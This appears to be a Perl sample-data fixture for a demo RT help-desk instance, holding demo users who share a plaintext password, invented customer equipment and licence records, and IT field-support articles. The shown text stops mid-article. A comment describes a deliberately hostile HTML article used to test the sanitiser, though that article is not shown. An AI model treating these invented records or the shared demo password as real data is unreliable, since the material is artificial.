# FieldDesk sample data: people, equipment, knowledge base and field visits.
#
# Loaded after fielddesk-admin-kit.pl into a private demo/test RT:
#   rt-setup-database --action insert --datafile sample-data.pl
# Never load it into a production RT.
#
# Visit dates are relative to the day the data is loaded, so the demo always
# has visits today, tomorrow and later this week.  Times are UTC (the
# instance's time zone).

use strict;
use warnings;
use utf8;

our ( @Users, @Final );

my $PASSWORD = 'fielddesk';    # every sample user's password (demo only)

@Users = (
    {
        Name         => 'supervisor',
        RealName     => 'Dana Whitfield',
        EmailAddress => 'dana.whitfield@fielddesk.test',
        Password     => $PASSWORD,
        Privileged   => 1,
        MemberOf     => ['Field Supervisors'],
    },
    map {
        {
            Name         => $_->[0],
            RealName     => $_->[1],
            EmailAddress => "$_->[0]\@fielddesk.test",
            Password     => $PASSWORD,
            Privileged   => 1,
            MemberOf     => ['Field Technicians'],
        }
    } ( [ 'alice', 'Alice Moreau' ], [ 'bob', 'Bob Okafor' ], [ 'carol', 'Carol Lindqvist' ] ),
);

# ---------------------------------------------------------------------------
# Equipment at customer sites: [ name, model, serial, warranty (YYYY-MM-DD), site ]
# Names are SITE-TYPE-NN; serials are unique; some warranties have expired.
my @ASSETS = (
    # Acme Dental Clinic, Portsmouth
    [ 'ACME-PRN-01', 'HP LaserJet Pro M404dn',            'VNB3K12345',       '2027-03-31', 'Acme Dental Clinic' ],
    [ 'ACME-AP-01',  'Ubiquiti UniFi U6-Lite',            'F4E2C1A9B3D7',     '2026-12-15', 'Acme Dental Clinic' ],
    [ 'ACME-NAS-01', 'Synology DiskStation DS220+',       '2110QBR482716',    '2026-02-28', 'Acme Dental Clinic' ],

    # Café Lumière, Southsea and Ocean Village branches
    [ 'CLS-POS-01', 'Elo I-Series 4 15.6in POS terminal', 'J21M012745',       '2027-05-31', 'Café Lumière Southsea' ],
    [ 'CLS-RCP-01', 'Epson TM-m30III receipt printer',    'X8RC014582',       '2025-09-30', 'Café Lumière Southsea' ],
    [ 'CLS-AP-01',  'TP-Link Omada EAP245',               '2234512003871',    '2027-08-20', 'Café Lumière Southsea' ],
    [ 'CLO-RCP-01', 'Epson TM-m30III receipt printer',    'X8RC019977',       '2028-01-31', 'Café Lumière Ocean Village' ],

    # Hartley & Finch Solicitors, Southampton
    [ 'HFS-MFP-01', 'Kyocera TASKalfa 3253ci',            'R4P2X00931',       '2027-10-14', 'Hartley & Finch Solicitors' ],
    [ 'HFS-FW-01',  'Fortinet FortiGate 40F',             'FGT40FTK22017734', '2026-06-30', 'Hartley & Finch Solicitors' ],
    [ 'HFS-LT-07',  'Dell Latitude 5440',                 '7HX2LK3',          '2028-04-11', 'Hartley & Finch Solicitors' ],
    [ 'HFS-DK-07',  'Dell Dock WD19S 130W',               'HK4M2Z3',          '2026-04-11', 'Hartley & Finch Solicitors' ],

    # Westbrook Primary School, Waterlooville
    [ 'WPS-SW-01',  'HPE Aruba Instant On 1930 24G PoE 370W (JL684B)', 'CN21KP30ZX', '2029-05-31', 'Westbrook Primary School' ],
    [ 'WPS-AP-03',  'HPE Aruba Instant On AP22',          'CNL7KSS1T4',       '2028-09-01', 'Westbrook Primary School' ],
    [ 'WPS-UPS-01', 'APC Smart-UPS 1500 (SMT1500RMI2U)',  'AS1921231574',     '2025-07-31', 'Westbrook Primary School' ],

    # Solent Logistics warehouse, Hedge End
    [ 'SOL-LBL-01', 'Zebra ZT411 203 dpi',                '99J214501872',     '2026-08-31', 'Solent Logistics' ],
    [ 'SOL-AP-02',  'Ubiquiti UniFi U6-Pro',              '7483C2A1F09E',     '2027-02-28', 'Solent Logistics' ],

    # Tide & Trail Outdoor (retail), Portsmouth
    [ 'TTO-POS-01', 'HP Engage One Pro',                  'CZC2417GKR',       '2028-06-30', 'Tide & Trail Outdoor' ],
    [ 'TTO-RCP-01', 'Epson TM-T88VII receipt printer',    'X8ZK003917',       '2027-06-30', 'Tide & Trail Outdoor' ],
    [ 'TTO-PED-01', 'Ingenico Lane/3000 card terminal',   '21301PP80412778',  '2026-09-15', 'Tide & Trail Outdoor' ],

    # Bramley Cole Accountants, Fareham
    [ 'BCA-NAS-01', 'Synology DiskStation DS923+',        '2260RSR738415',    '2028-02-29', 'Bramley Cole Accountants' ],
    [ 'BCA-DT-03',  'HP ProDesk 400 G9 SFF',              'CZC3247XQ9',       '2026-03-15', 'Bramley Cole Accountants' ],

    # Elmgrove Medical Practice (GP surgery), Southsea
    [ 'EGS-SW-01',  'Netgear GS728TPP 24-port PoE+',      '6LM1875A00412',    '2029-12-31', 'Elmgrove Medical Practice' ],
    [ 'EGS-PH-04',  'Yealink SIP-T54W',                   '801054F022116893', '2026-11-30', 'Elmgrove Medical Practice' ],
    [ 'EGS-PRN-03', 'Brother HL-L5210DN',                 'E81526A3N417092',  '2027-04-30', 'Elmgrove Medical Practice' ],

    # Solent View Hotel, Southampton
    [ 'SVH-FW-01',  'DrayTek Vigor 2865ac',               '2106A1B23947',     '2027-09-30', 'Solent View Hotel' ],
    [ 'SVH-AP-12',  'Ubiquiti UniFi U6-LR',               '245A4C8B10D2',     '2025-06-01', 'Solent View Hotel' ],

    # Müller GmbH UK branch, Fareham
    [ 'MUL-LBL-01', 'Zebra ZD421t thermal transfer',      'D4J224500873',     '2027-01-31', 'Müller GmbH UK' ],
    [ 'MUL-SW-01',  'Cisco CBS350-24P-4G',                'PSZ26041K2B',      '2029-03-31', 'Müller GmbH UK' ],
    [ 'MUL-LT-02',  'Lenovo ThinkPad T14 Gen 4',          'PF4KX7B2',         '2027-12-31', 'Müller GmbH UK' ],
);

# Software licences (catalog "Software Licences", seen by supervisors only):
# [ name, product, licence key, subscription end, site ].  The keys are made up.
my @LICENCES = (
    [ 'ACME-LIC-OFFICE', 'Microsoft 365 Business Standard (5 seats)', 'FDK7Q-2M9XH-44RTP-KW8ZB-J3N6C', '2027-06-30', 'Acme Dental Clinic' ],
    [ 'HFS-LIC-AV',      'ESET Protect Entry (25 seats)',             'EAV-5XK2-93PL-QQ7M-0Z1T',       '2027-01-31', 'Hartley & Finch Solicitors' ],
);

# ---------------------------------------------------------------------------
# Knowledge base: [ name, summary, body (HTML or plain text) ]
# Bodies starting with '<' are HTML, anything else is plain text.  Articles
# refer to each other by name in quotes; one imported article deliberately
# carries hostile HTML (scripts, trackers, a fake login form, tables and divs
# nested hundreds deep) so the app's sanitiser and layout bounds are exercised.
my @ARTICLES = (
    [
        'HP LaserJet: clearing a 13.B2 paper jam',
        'Paper stopped between the registration area and the fuser on M404/M428 series; how to clear it without tearing the sheet.',
        <<'HTML',
<p><b>Symptom:</b> the control panel shows <b>13.B2.xx</b> and "Paper jam" (LaserJet Pro M404/M405/M428/M429 series). The sheet has usually stopped between the toner cartridge and the fuser, and is often visible from the rear door.</p>
<p><b>Cause:</b> a sheet did not reach or clear the registration / fuser-inlet sensor in time. Common reasons are damp or curled paper, an over-filled Tray 2, a scrap left behind by an earlier jam, or a worn fuser sleeve that no longer pulls the paper through. A <code>13.B2.FF</code> shown straight after power-on is a <em>residual</em> jam: something (paper or a stuck sensor flag) is still in the path.</p>
<h3>Clearing the jam</h3>
<ol>
<li>Switch the printer off and let it cool for 10 minutes. The fuser can exceed 180 °C.</li>
<li>Open the front door and remove the toner cartridge; look along the paper path with a torch.</li>
<li>Open the rear door. If the model has green pressure-release levers on the fuser, lower them.</li>
<li>Pull the sheet <em>straight back</em> with both hands, slowly and evenly, never up or at an angle. A torn sheet leaves a strip in the fuser nip.</li>
<li>Pull out Tray 2, check for a crumpled sheet at the back of the cavity, then fan the paper and reload no higher than the fill marks.</li>
<li>Refit the cartridge, close all doors and switch on.</li>
</ol>
<h3>Verification</h3>
<p>Print a configuration report, then 20 duplex pages from the tray the customer uses most. No jam and no creasing means you are done. Check the Embedded Web Server event log for earlier 13.xx entries and note how many there are in the visit.</p>
<h3>Notes</h3>
<ul>
<li>Never use a screwdriver or tweezers inside the fuser; if a scrap cannot be reached by hand, replace the fuser.</li>
<li>Store paper sealed and flat; an open ream in a damp stockroom is a frequent cause.</li>
<li>Third 13.B2 on the same printer within a few months? See also 'HP LaserJet M404/M428: recurring jams, rollers and fuser'.</li>
</ul>
HTML
    ],
    [
        'HP LaserJet M404/M428: recurring jams, rollers and fuser',
        'When the same LaserJet keeps jamming: how to decide between new pickup rollers, a fuser or a change of paper.',
        <<'TEXT',
Symptoms
A LaserJet Pro M404 or M428 jams again within weeks of being cleared, often with a mix of 13.A (pick/tray) and 13.B (registration/fuser) codes. Pages may come out creased at the trailing edge, or two sheets are picked at once.

Likely causes
- Pickup and separation rollers glazed after roughly 100,000 pages (or sooner with recycled paper): causes mis-picks and multi-feeds.
- Fuser sleeve worn or scored: causes 13.B2 jams, creasing and toner that rubs off.
- Paper: damp, wrong weight, or stored open. Rule this out first, it is free.

Procedure
1. Read the page count and the event log from the Embedded Web Server (type the printer's IP address into a browser). Write the last ten jam codes and page counts into your visit notes.
2. Clear any current jam; see 'HP LaserJet: clearing a 13.B2 paper jam'.
3. Load a fresh, sealed ream of 80 gsm paper and print 50 duplex pages.
4. If jams are 13.A (tray/pick): replace the Tray 2 pickup roller and separation pad (kit is cheap; carry one in the van).
5. If jams are 13.B or pages crease: replace the fuser. Power off, wait for it to cool, and follow the service manual for the exact model. Fusers are heavy and the connectors are fragile.
6. Print 100 duplex pages as a soak test.

Verification
No jams in the soak test, no creasing, toner does not smudge when you rub a printed page with your thumb.

Notes
- Check the warranty date on the asset first: if the printer is still covered, log an HP case instead of fitting parts from stock.
- Three jam visits on one printer in 60 days is a pattern: say so in the visit and raise it with the supervisor so the customer can be offered a maintenance kit or replacement.
- Old rollers and fusers go back through the parts return process if they came from an RMA; see 'Parts return (RMA) process'.
TEXT
    ],
    [
        'Kyocera TASKalfa: scan-to-email with Microsoft 365 SMTP',
        'Setting up and fixing scan-to-email on Kyocera TASKalfa MFPs when the mailbox is in Microsoft 365.',
        <<'HTML',
<p><b>Symptom:</b> users press <em>Send</em> and the copier reports "Send error" with code <b>1102</b> (SMTP authentication failed) or <b>1101</b> (SMTP server not found / connection failed). Often starts after a password change or when Microsoft disables basic authentication for the tenant.</p>
<p><b>Cause:</b> the copier logs in to <code>smtp.office365.com</code> with a mailbox name and password (SMTP AUTH). This breaks when the password expires, MFA is enforced on that mailbox, or SMTP AUTH is switched off for the mailbox or the tenant.</p>
<h3>Check the settings</h3>
<p>Open Command Center RX (browse to the copier's IP address, log in as Admin) and go to <b>Function Settings &gt; E-mail</b>:</p>
<table>
<tr><th>Setting</th><th>Value</th></tr>
<tr><td>SMTP server name</td><td><code>smtp.office365.com</code></td></tr>
<tr><td>SMTP port</td><td>587</td></tr>
<tr><td>SMTP security</td><td>STARTTLS</td></tr>
<tr><td>Authenticate as</td><td>the scanning mailbox, e.g. <code>scanner@customer.example</code></td></tr>
<tr><td>Sender address</td><td>must be the same mailbox</td></tr>
</table>
<h3>Steps</h3>
<ol>
<li>Use <b>Test</b> next to the SMTP server. Note the exact result.</li>
<li>If authentication fails, sign in to the mailbox in a browser (private window) to check the password and whether MFA is now required.</li>
<li>In the Microsoft 365 admin centre, check that <em>Authenticated SMTP</em> is enabled for that mailbox.</li>
<li>Re-enter the password on the copier, save, and send a test scan to your own address.</li>
<li>If the customer's policy forbids SMTP AUTH, switch the copier to a relay connector instead; see 'Microsoft 365: SMTP relay connector for copiers and scanners'.</li>
</ol>
<h3>Verification</h3>
<p>Scan a two-page document to two different internal users; both must receive the PDF within a minute.</p>
<h3>Notes</h3>
<ul>
<li>Ask the customer to set the scanning mailbox password to <em>never expire</em> or document the renewal date in the visit.</li>
<li>Older firmware cannot negotiate TLS 1.2; update the firmware before anything else if the test reports a TLS error.</li>
</ul>
HTML
    ],
    [
        'Microsoft 365: SMTP relay connector for copiers and scanners',
        'How to send scan-to-email through a Microsoft 365 inbound connector when the copier cannot use a mailbox password.',
        <<'TEXT',
When to use this
Use a connector when SMTP AUTH is disabled in the tenant, the scanning mailbox has MFA, or the device cannot do STARTTLS with a password. The copier then sends without logging in, and Microsoft 365 accepts the mail because it comes from the customer's fixed public IP address.

Prerequisites
- The site has a static public IP address (check the router or ask the ISP). Relay will not work on a dynamic IP.
- Port 25 outbound is not blocked by the ISP or firewall.
- You know the customer's MX endpoint, shown in the Microsoft 365 admin centre under Domains, for example customer-example.mail.protection.outlook.com.

Steps
1. In the Exchange admin centre go to Mail flow > Connectors > Add a connector. From: Your organisation's email server. To: Office 365.
2. Name it "Scanner relay - <site>", choose "By verifying that the IP address of the sending server matches", and enter the site's public IP.
3. On the copier set SMTP server = the MX endpoint, port 25, no authentication, STARTTLS if offered.
4. Set the sender address to an address in the customer's domain (it does not need a mailbox, but using the scanner mailbox keeps replies sensible).
5. Update the SPF record to include the site IP (ip4:x.x.x.x) so the messages are not marked as spam.

Verification
Scan to an internal user and to an external address of your own. Check the message headers: the external copy must pass SPF.

Notes
- If the public IP changes, scanning stops. Record the IP and the connector name in the visit notes.
- Never open the connector to "any IP"; that makes the tenant an open relay.
- For Kyocera-specific screens see 'Kyocera TASKalfa: scan-to-email with Microsoft 365 SMTP'.
TEXT
    ],
    [
        'Windows: clearing a stuck print queue and reinstalling a driver',
        'Jobs stuck "Deleting" or "Error" in the queue, or a driver that keeps coming back broken.',
        <<'TEXT',
Symptoms
- Documents sit in the queue with status "Error - Printing" or "Deleting" and nothing prints.
- Printing from one PC fails while other PCs print fine.
- After a Windows update, prints come out as garbage characters or blank pages.

Cause
The Print Spooler has a corrupt job in C:\Windows\System32\spool\PRINTERS, or the driver package is damaged or mismatched (a PCL driver sending to a PostScript-only queue, or a type 3 driver left over from an old printer).

Steps
1. Open an elevated command prompt.
2. Stop the spooler: net stop spooler
3. Delete everything in C:\Windows\System32\spool\PRINTERS (the folder itself stays).
4. Start the spooler: net start spooler
5. Print a test page. If it works, stop here.
6. If not, remove the printer in Settings > Bluetooth & devices > Printers & scanners.
7. Run printui /s /t2, select the driver on the Drivers tab and choose "Remove driver and driver package".
8. Reinstall with the manufacturer's current driver (prefer the model-specific PCL6 driver over "universal" drivers for small sites), and add the printer by IP address using a Standard TCP/IP port, not WSD.
9. Set the default tray and duplex options to match the customer's usual use.

Verification
Print a Windows test page and a document from the application the user actually uses (often Word or the practice management system). Check duplex and tray selection.

Notes
- WSD ports change when the printer's IP changes; TCP/IP ports with a DHCP reservation are more stable.
- If several PCs break at once after an update, check for a known Windows print issue before touching each PC.
- Error codes on the printer's own screen: see 'Printer error codes: quick reference'.
TEXT
    ],
    [
        'Printer error codes: quick reference',
        'What the most common HP, Kyocera and Brother error codes mean on site and what to do first.',
        <<'HTML',
<p>Use this table to decide quickly whether a printer fault is a clean-and-retry job, a part you can fit, or a vendor call. Always write the full code (including the last digits) in the visit notes.</p>
<table>
<tr><th>Code / message</th><th>Meaning</th><th>First action</th></tr>
<tr><td>HP <code>13.xx.yy</code></td><td>Paper jam; the digits identify the location and sensor</td><td>Clear the path, check paper; see 'HP LaserJet: clearing a 13.B2 paper jam'</td></tr>
<tr><td>HP <code>10.00.xx</code></td><td>Supply memory error (toner chip)</td><td>Reseat cartridge, clean the chip contacts, try another cartridge</td></tr>
<tr><td>HP <code>49.xxxx</code></td><td>Critical firmware error, usually triggered by a print job</td><td>Power cycle, clear the queue, update firmware</td></tr>
<tr><td>HP <code>50.x</code></td><td>Fuser error (temperature)</td><td>Power off 30 minutes; if it returns, replace the fuser; check the socket supply</td></tr>
<tr><td>HP <code>79.xxxx</code></td><td>Service / formatter error</td><td>Power cycle, update firmware; if persistent, formatter</td></tr>
<tr><td>Kyocera <code>1102</code></td><td>Send error: SMTP authentication failed</td><td>See 'Kyocera TASKalfa: scan-to-email with Microsoft 365 SMTP'</td></tr>
<tr><td>Kyocera <code>C6000</code></td><td>Fuser heater error</td><td>Power off; service call, do not keep resetting</td></tr>
<tr><td>Brother "Drum End Soon"</td><td>Drum unit near end of life</td><td>Order a drum; reset the counter only after fitting a new one</td></tr>
<tr><td>Brother "Replace Toner"</td><td>Toner empty or not detected</td><td>Fit new toner; clean the corona wire slider on the drum</td></tr>
</table>
<h3>General rules</h3>
<ol>
<li>Photograph the screen before you touch anything.</li>
<li>Print the configuration page or event log where available.</li>
<li>Check the asset's warranty date: in warranty means vendor case first, not parts from our stock.</li>
<li>After the fix, print a test page and record page count and firmware version.</li>
</ol>
<p><em>Note:</em> code meanings vary slightly between models and firmware; when in doubt, look up the exact code in the model's service manual.</p>
HTML
    ],
    [
        'Toner: safe handling and spill clean-up',
        'How to handle toner cartridges and clean up spilled toner without spreading it or creating a health hazard.',
        <<'TEXT',
Why it matters
Toner is a very fine powder. It is low in toxicity but can irritate the eyes and airways, and a fine dust cloud can ignite from a spark. It also stains clothes and carpets permanently if it gets wet or warm.

Before you start
- Wear nitrile gloves. Use a disposable dust mask (FFP2) for anything larger than a few grams.
- Keep the customer's staff, and especially children or patients, away from the area.
- Never use a normal vacuum cleaner: the powder passes through the filter and the motor can ignite it. Use a toner vacuum with a suitable filter, or damp cloths for small amounts.

Clean-up steps
1. Switch the printer off and let it cool.
2. Lift the cartridge out slowly, keeping it level, and place it in a plastic bag immediately.
3. Wipe loose toner inside the printer with a dry lint-free cloth, working towards you, then with the toner vacuum.
4. On floors or desks, wipe up with a cool, damp cloth. Cold water only: warm water melts toner into fabric.
5. For clothing, shake off outside and wash in cold water.
6. Bag all cloths and gloves, seal, and put them in the customer's general waste, or bring them back if the customer prefers.

If exposed
- Eyes: rinse with clean water for 15 minutes.
- Skin: wash with soap and cold water.
- If someone has breathing difficulty, move them to fresh air and get first aid.

Notes
- Used cartridges go in the manufacturer's recycling box or back to the office; never leave them in a customer's recycling bin.
- Report any large spill in your visit notes so the next technician knows to check for residue on the rollers.
- Safety data sheets for the toners we stock are in the office H&S folder.
TEXT
    ],
    [
        'Wi-Fi channel planning for small sites',
        'Choosing channels, channel width and power for offices, clinics and shops with two to ten access points.',
        <<'HTML',
<p>Most "slow Wi-Fi" calls at small sites come from access points fighting each other or the neighbours, not from a lack of bandwidth. Do a quick plan before you add more APs.</p>
<h3>Survey first</h3>
<ol>
<li>Walk the site with a phone or laptop running a Wi-Fi analyser. Note which channels neighbours use and the signal of our own APs in each room.</li>
<li>Aim for about -65 dBm or better where people work and -70 dBm at the edges. Voice handsets and scanners want -67 dBm or better.</li>
<li>Note problem areas: metal racking, lift shafts, X-ray rooms with lead lining, fridges and thick stone walls.</li>
</ol>
<h3>2.4 GHz</h3>
<ul>
<li>Use only channels <b>1, 6 and 11</b>, 20 MHz wide. Anything else overlaps two channels.</li>
<li>Turn the power down (low or medium); 2.4 GHz travels further than 5 GHz and you want clients to prefer 5 GHz.</li>
<li>With several APs close together, disable 2.4 GHz on some of them.</li>
</ul>
<h3>5 GHz</h3>
<ul>
<li>Use 20 MHz or 40 MHz width. 80 MHz looks fast on a speed test but leaves too few channels for more than two APs.</li>
<li>DFS channels (52 to 144) give more room, but the AP must leave a channel when it detects radar; avoid them for voice near the coast if you see frequent channel changes in the log.</li>
<li>Give neighbouring APs different channels and set power so that each room has one clearly strongest AP.</li>
</ul>
<h3>Verification</h3>
<p>Walk the site again. In each room one of our APs should be clearly the strongest, and a video call should not drop while you walk between rooms.</p>
<p>Related: 'Wi-Fi roaming: sticky clients, minimum RSSI and 802.11r'.</p>
HTML
    ],
    [
        'Wi-Fi roaming: sticky clients, minimum RSSI and 802.11r',
        'Why laptops, phones and handheld scanners hang on to a distant AP and how to make them roam.',
        <<'TEXT',
Symptoms
- A device shows good Wi-Fi bars near one AP but is still connected to another AP two rooms away.
- Calls break up or handheld scanners freeze as users walk down an aisle or corridor.
- The problem disappears after toggling Wi-Fi off and on.

Cause
The client, not the AP, decides when to roam. Many devices only roam when the signal is very weak (around -75 to -80 dBm). APs set to full power make this worse because the old AP still looks "good enough".

Steps
1. Check the channel plan first; see 'Wi-Fi channel planning for small sites'. Roaming tuning cannot fix overlapping channels.
2. Reduce AP transmit power so cells overlap a little, not a lot. A rule of thumb: a device standing under one AP should see the neighbouring AP at least 10 dB weaker.
3. Enable 802.11k and 802.11v (called "BSS transition" on UniFi and Omada). These help clients find a better AP.
4. Consider a minimum RSSI of about -75 dBm on the AP so it disconnects very weak clients. Do not go higher than -72 dBm: some clients then drop instead of roaming.
5. 802.11r (fast roaming) helps voice and scanners, but some older printers, POS terminals and barcode scanners fail to join a network with it enabled. Test with every device type before leaving it on, or put those devices on a separate SSID.
6. Update AP firmware and, for scanners, the Wi-Fi driver or firmware of the handheld.

Verification
Walk the route with the affected device while it runs a continuous ping to the gateway (ping -t on Windows). Expect at most one or two lost pings as it changes AP, and check in the controller that it actually moved.

Notes
Record the power and RSSI values you set in the visit notes; the next technician will otherwise undo them.
TEXT
    ],
    [
        'Guest Wi-Fi: captive portal does not appear',
        'Guests connect to the guest network but never see the login or terms page, especially on iPhones.',
        <<'HTML',
<p><b>Symptom:</b> guests join the guest SSID, the phone says "No Internet Connection", and the portal page never opens. Often worse on iPhones and on devices that use a private DNS or VPN.</p>
<p><b>How portal detection works:</b> after joining, the device requests a known test URL over plain HTTP, for example <code>http://captive.apple.com/hotspot-detect.html</code>, <code>http://connectivitycheck.gstatic.com/generate_204</code> or <code>http://www.msftconnecttest.com/connecttest.txt</code>. The network must intercept that request and redirect it to the portal. If DNS fails, or the request is blocked instead of redirected, the portal never appears.</p>
<h3>Steps</h3>
<ol>
<li>Check that guest clients get an IP address, gateway and DNS server (see 'DHCP scope exhausted: "No IP address" on new devices').</li>
<li>Check the walled garden / pre-authorisation list: the portal host itself and any external login provider (for example a social login or a payment page) must be reachable before login.</li>
<li>Make sure DNS works before authentication. Some firewalls block all traffic, including DNS, until login; then nothing can redirect.</li>
<li>If the portal uses HTTPS with a certificate for a hostname, that hostname must resolve for guests, and the certificate must be valid. An expired certificate is a common cause after a year of working fine.</li>
<li>Test with a laptop: browse to <code>http://neverssl.com</code>. If that redirects to the portal but phones do not pop up, the problem is detection, not the portal.</li>
<li>On iPhones, iCloud Private Relay and "Limit IP Address Tracking" can interfere; ask the guest to try with Private Relay off for that network.</li>
</ol>
<h3>Verification</h3>
<p>Forget the network on an iPhone and an Android phone, reconnect, and confirm the portal pops up within a few seconds on both. Accept the terms and browse to two sites.</p>
<h3>Notes</h3>
<ul><li>Keep guest and staff networks on separate VLANs with client isolation on the guest SSID.</li>
<li>Write the portal's admin URL and where the certificate comes from in the visit notes.</li></ul>
HTML
    ],
    [
        'DHCP scope exhausted: "No IP address" on new devices',
        'New phones and laptops cannot join the network, or get a 169.254.x.x address, because the DHCP pool has run out.',
        <<'TEXT',
Symptoms
- Existing devices work; new ones connect to Wi-Fi but get "No internet" or a 169.254.x.x address.
- Often starts at busy times (hotel check-in, school term start, a conference in a meeting room).
- The router or firewall log shows "no free leases" or "pool exhausted".

Cause
Every device that connects holds a lease for the lease time, even after it leaves. Phones with MAC address randomisation may take a new lease each visit. A /24 guest network with a 7-day lease runs out quickly with a few hundred guests.

Steps
1. Confirm it: look at the DHCP lease table on the router/firewall and count active leases against the pool size.
2. Look for a rogue DHCP server or a device grabbing many leases (the same vendor prefix repeated hundreds of times).
3. Shorten the lease time on guest and busy networks: 1 to 4 hours is normal for guest Wi-Fi; staff networks can stay at 8 to 24 hours.
4. If still too small, enlarge the pool. Either widen the range inside the existing subnet (keep static and reserved addresses outside it) or move the guest VLAN to a larger subnet such as a /22, updating the interface address and the pool together.
5. Clear expired leases if the device allows it, then reconnect a test device.
6. Keep printers, APs and POS kit on reservations so they never depend on the pool.

Verification
A new device gets an address within a few seconds, and the lease table shows comfortable headroom (aim for at least 30 per cent free at the busiest time).

Notes
- Changing a subnet disconnects everyone on it; do it out of hours or warn the customer.
- If devices get an address but names do not resolve, it is a DNS problem instead; see 'DNS troubleshooting on site'.
TEXT
    ],
    [
        'DNS troubleshooting on site',
        'A quick sequence to tell a DNS fault from a connectivity fault and fix the common causes.',
        <<'HTML',
<p><b>Symptoms:</b> "This site can't be reached", cloud apps fail while pinging an IP address works, or one internal name (the NAS, a server) does not resolve.</p>
<h3>Is it DNS?</h3>
<ol>
<li>Ping the gateway, then <code>ping 1.1.1.1</code>. If these fail, it is not DNS: check cabling, Wi-Fi and DHCP first.</li>
<li>Run <code>nslookup www.bbc.co.uk</code>. If it times out or says "server failed" while 1.1.1.1 pings fine, it is DNS.</li>
<li>Run <code>ipconfig /all</code> and note which DNS servers the PC uses. Typical fault: a PC with a static DNS entry pointing to an old server or router that no longer exists.</li>
</ol>
<h3>Fixes</h3>
<ul>
<li><b>Wrong DNS server handed out:</b> correct the DHCP option on the router/firewall, then run <code>ipconfig /release</code> and <code>ipconfig /renew</code> on clients.</li>
<li><b>Stale cache:</b> <code>ipconfig /flushdns</code> on the PC. In PowerShell, <code>Resolve-DnsName name -Server 1.1.1.1</code> compares with a public server.</li>
<li><b>Internal names:</b> an Active Directory site must hand out only the domain controllers as DNS, never a public resolver as the second server, otherwise logons and drive mappings fail randomly.</li>
<li><b>Filtering:</b> schools and clinics often use a DNS filter. If only some sites fail, check the filter's block log before changing anything.</li>
<li><b>Router DNS proxy hung:</b> restarting the router clears it, but record it; if it recurs, hand out a reliable resolver directly.</li>
</ul>
<h3>Verification</h3>
<p>From two different PCs, <code>nslookup</code> an internal name and an external name, then open the customer's main cloud application.</p>
<p>Related: 'DHCP scope exhausted: "No IP address" on new devices'.</p>
HTML
    ],
    [
        'VLANs on small-business switches: tagged, untagged and PVID',
        'How to put a port on the right VLAN on Aruba Instant On, Cisco CBS and Netgear switches without cutting yourself off.',
        <<'HTML',
<p>A VLAN splits one physical switch into separate networks (for example staff, guest, voice, CCTV). Getting tagging wrong is the most common cause of "the phone/AP/PC has no network after you moved it".</p>
<h3>The three terms</h3>
<ul>
<li><b>Untagged</b>: the port sends and receives plain frames for one VLAN. Use for PCs, printers, cameras: a device that knows nothing about VLANs.</li>
<li><b>Tagged</b>: frames carry an 802.1Q tag. Use for uplinks between switches, firewalls and APs that carry several SSIDs.</li>
<li><b>PVID / native VLAN</b>: which VLAN untagged frames arriving on the port belong to. It must match the untagged VLAN.</li>
</ul>
<h3>Procedure</h3>
<ol>
<li>Back up the switch configuration first and photograph the port labels.</li>
<li>Make sure the VLAN exists on every switch in the path and on the firewall, with the firewall interface and DHCP scope ready.</li>
<li>Configure the uplink ports as tagged members of the new VLAN.</li>
<li>Configure the access port as untagged member of the new VLAN and set its PVID to the same ID; remove it from VLAN 1.</li>
<li>On a Cisco CBS350 (CLI):<br>
<code>interface gi1/0/10</code><br>
<code>switchport mode access</code><br>
<code>switchport access vlan 30</code><br>
and on the uplink: <code>switchport mode trunk</code>, <code>switchport trunk allowed vlan add 30</code>. Save with <code>write memory</code>.</li>
<li>Never change the VLAN of the port you are connected through; work from a port on the management VLAN.</li>
</ol>
<h3>Verification</h3>
<p>The device gets an address from the new VLAN's scope, can reach its gateway, and cannot reach devices on other VLANs unless the firewall allows it. Save the configuration and export a fresh backup.</p>
<p><em>Note:</em> IP phones often get their voice VLAN by LLDP-MED; see 'Yealink desk phones: reboot loops and provisioning'.</p>
HTML
    ],
    [
        'PoE budget: devices rebooting or not powering up',
        'Phones, access points or cameras that reboot or stay dark on a PoE switch: checking the power budget and fixing it.',
        <<'TEXT',
Symptoms
- IP phones reboot at random or when someone plugs in a new device.
- A newly added access point or camera never powers up, while the same device works on another port.
- The switch log shows "PoE power denied", "power budget exceeded" or a port going "Searching".

Cause
A PoE switch has a total power budget (for example 190 W or 370 W) as well as a per-port limit. 802.3af (PoE) delivers up to 15.4 W per port, 802.3at (PoE+) up to 30 W, and 802.3bt up to 60 or 90 W. Wi-Fi 6 access points often need PoE+; PTZ cameras with heaters may need more. When the total is exceeded, the switch cuts power to the lowest-priority ports.

Steps
1. Open the switch's PoE status page and note the total budget, the power currently used, and any ports denied power.
2. Add up the maximum draw of the devices (from their datasheets, not the current reading; draw rises when APs are busy or cameras switch on infrared at night).
3. Set port priorities: critical devices (phones at reception, core APs) to High or Critical.
4. Set ports with no PoE device (PCs, printers) to PoE disabled so they do not reserve power.
5. If the budget is still exceeded, move some devices to another PoE switch or fit PoE injectors, and recommend a larger switch.
6. Check the cable: a long or poor-quality run can make a device draw power unreliably. Test it; see 'Network cable testing and RJ45 termination'.

Verification
All powered devices stay up for 15 minutes with the site at normal load, and the switch shows at least 15 per cent budget headroom.

Notes
- Write the budget calculation in the visit notes; it is needed when the customer asks for "just one more phone".
- For phones that reboot for other reasons see 'Yealink desk phones: reboot loops and provisioning'.
TEXT
    ],
    [
        'UPS: replacing the battery cartridge (APC Smart-UPS and Back-UPS)',
        'Safe battery replacement on APC units, including the self-test and disposal of the old battery.',
        <<'HTML',
<p><b>Symptoms:</b> red "Replace battery" LED or LCD message, a chirping alarm every few hours, a failed self-test, or runtime far below what the load suggests. Sealed lead-acid UPS batteries typically last three to five years, less in a warm cupboard.</p>
<h3>Before you go</h3>
<ul>
<li>Find the replacement cartridge for the exact model: APC publishes an RBC number per model (for example <b>APCRBC133</b> for SMT1500RMI2U). Check the label on the UPS, not the asset description alone.</li>
<li>Tell the customer: most Smart-UPS units allow hot-swap, but if anything goes wrong the connected equipment loses power. Schedule outside business hours where possible.</li>
</ul>
<h3>Replacement</h3>
<ol>
<li>Check the load in the UPS display and that the mains is stable. Do not start during a storm or a known supply issue.</li>
<li>Remove the front bezel. On rack models, loosen the battery door screws.</li>
<li>Disconnect the battery connector, pull the cartridge out by its tab. It is heavy (up to 25 kg on larger units): lift with your legs, use two people for rack units above shoulder height.</li>
<li>Slide in the new cartridge, connect it firmly, refit the door and bezel.</li>
<li>On Smart-UPS LCD units, set the battery install date in the configuration menu.</li>
<li>Let the battery charge for several hours, then run a self-test from the display or management card.</li>
</ol>
<h3>Verification</h3>
